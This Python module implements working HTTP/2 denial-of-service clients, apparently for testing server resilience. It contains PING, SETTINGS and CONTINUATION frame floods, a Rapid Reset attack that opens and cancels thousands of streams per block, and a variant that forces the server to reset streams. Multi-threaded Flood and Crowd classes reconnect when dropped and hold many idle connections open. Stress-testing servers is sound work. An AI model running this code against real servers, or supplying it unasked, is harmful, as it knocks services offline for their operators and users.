# SPDX-License-Identifier: Apache-2.0
"""Clients that mean harm: they send blocks of frames as fast as the server takes them, on several
connections, and connect anew when they are thrown out."""

import itertools
import random
import socket
import ssl
import struct
import threading
import time

from . import hpack
from .connect import Tls, connect
from .http2 import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM
from .http2 import SETTINGS, WINDOW_UPDATE, frame_octets

REQUESTS = 20000  # of a block of requests; a connection has 2^30 streams
START = PREFACE + frame_octets(SETTINGS, 0, 0)
CANCEL = struct.pack("!I", 8)
NOTHING = struct.pack("!I", 0)


def _fields(host):
    pairs = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", host)]
    return b"".join(hpack.encode_literal(name, value) for name, value in pairs)


def random_hosts(seed):
    source = random.Random(seed)
    while True:
        yield f"r{source.getrandbits(64):x}.example.com"


def _requests(hosts, after):
    """Requests, each followed at once by a frame that ends its stream."""
    out = []
    for stream, host in zip(range(1, 2 * REQUESTS, 2), hosts):
        out.append(frame_octets(HEADERS, END_HEADERS | END_STREAM, stream, _fields(host)))
        out.append(after(stream))
    return b"".join(out)


def ping():
    return START, frame_octets(PING, 0, 0, bytes(8)) * 4000, True


def settings():
    return START, frame_octets(SETTINGS, 0, 0) * 7000, True


def continuation():
    head = frame_octets(HEADERS, END_STREAM, 1, _fields("a.example.com"))
    return START + head, frame_octets(CONTINUATION, 0, 1) * 7000, True


def rapid_reset(hosts):
    block = _requests(hosts, lambda stream: frame_octets(RST_STREAM, 0, stream, CANCEL))
    return START, block, False


def made_reset(hosts):
    """The server is made to reset the streams: a window update of nothing is an error."""
    block = _requests(hosts, lambda stream: frame_octets(WINDOW_UPDATE, 0, stream, NOTHING))
    return START, block, False


def same(host):
    return itertools.repeat(host)


class Flood:
    """`make` gives (what a connection begins with, a block, whether the block may be repeated on
    it). `reads`: the answers are read and thrown away; else they pile up. Use as a context
    manager; `connects` and `octets` say how far it came."""

    def __init__(self, where, make, connections=4, reads=True):
        self._where, self._make, self._reads = where, make, reads
        self._stop = threading.Event()
        self.connects, self.octets = 0, 0
        self._threads = [
            threading.Thread(target=self._run, args=(make(),), daemon=True)
            for _ in range(connections)
        ]

    def __enter__(self):
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self._stop.set()
        for thread in self._threads:
            thread.join(20)

    def _run(self, attack):
        while not self._stop.is_set():
            try:
                with connect(self._where, 5) as sock:
                    self.connects += 1
                    sock.settimeout(0.5)
                    self._send(sock, *attack)
            except OSError:
                time.sleep(0.001)  # thrown out: once more

    def _send(self, sock, start, block, repeats):
        sock.sendall(start)
        if self._reads and not isinstance(sock, ssl.SSLSocket):
            threading.Thread(target=self._drain, args=(sock,), daemon=True).start()
        while not self._stop.is_set():
            view = memoryview(block)
            while view and not self._stop.is_set():
                sent = self._send_some(sock, view[:65536])
                self.octets += sent
                view = view[sent:]
            if not repeats:
                self._wait_for_end(sock)
                return

    def _send_some(self, sock, octets):
        """A TLS connection bears one thread at a time: it is read in between."""
        if self._reads and isinstance(sock, ssl.SSLSocket):
            sock.settimeout(0)
            try:
                if not sock.recv(1 << 16):
                    raise ConnectionError
            except ssl.SSLWantReadError:
                pass
            sock.settimeout(0.5)
        return sock.send(octets)

    def _wait_for_end(self, sock):
        """All streams are used; what has been sent is being worked on."""
        sock.sendall(frame_octets(PING, 0, 0, b"the end!"))
        time.sleep(0.05)

    def _drain(self, sock):
        try:
            while sock.recv(1 << 20):
                pass
        except OSError:
            pass  # the other thread closes it


class Crowd:
    """Many connections that do as good as nothing. `begin`: what each sends at first; `more`: an
    octet that each sends now and then. Connections that are closed are opened again."""

    def __init__(self, where, count, begin, more=b"", receive_buffer=0):
        self._where, self._count, self._begin, self._more = where, count, begin, more
        self._receive_buffer = receive_buffer
        self._stop = threading.Event()
        self._socks = {}
        self.connects = 0
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._stop.set()
        self._thread.join(20)
        for sock in self._socks.values():
            sock.close()

    def _connect(self):
        if isinstance(self._where, Tls):
            sock = connect(self._where, 2)
        else:
            sock = socket.socket()
            if self._receive_buffer:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self._receive_buffer)
            sock.settimeout(2)
            sock.connect(self._where)
        sock.setblocking(False)
        self.connects += 1
        try:
            sock.send(self._begin)
        except (BlockingIOError, ssl.SSLWantWriteError):
            pass
        return sock

    def _run(self):
        for index in itertools.cycle(range(self._count)):
            if self._stop.is_set():
                return
            if index == 0 and len(self._socks) == self._count:
                self._stop.wait(0.2)
            try:
                sock = self._socks.get(index)
                if sock is None:
                    self._socks[index] = self._connect()
                elif self._more:
                    sock.send(self._more)
            except (BlockingIOError, ssl.SSLWantWriteError):
                pass
            except OSError:
                self._forget(index)

    def _forget(self, index):
        sock = self._socks.pop(index, None)
        if sock is not None:
            sock.close()
